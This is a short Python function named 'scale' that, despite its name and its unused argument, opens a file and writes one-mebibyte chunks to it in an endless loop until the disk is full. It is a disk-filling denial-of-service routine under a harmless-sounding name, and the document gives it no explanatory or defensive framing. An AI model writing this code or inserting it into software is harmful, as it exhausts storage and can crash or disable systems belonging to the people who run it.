def scale(x):
    with open("f", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
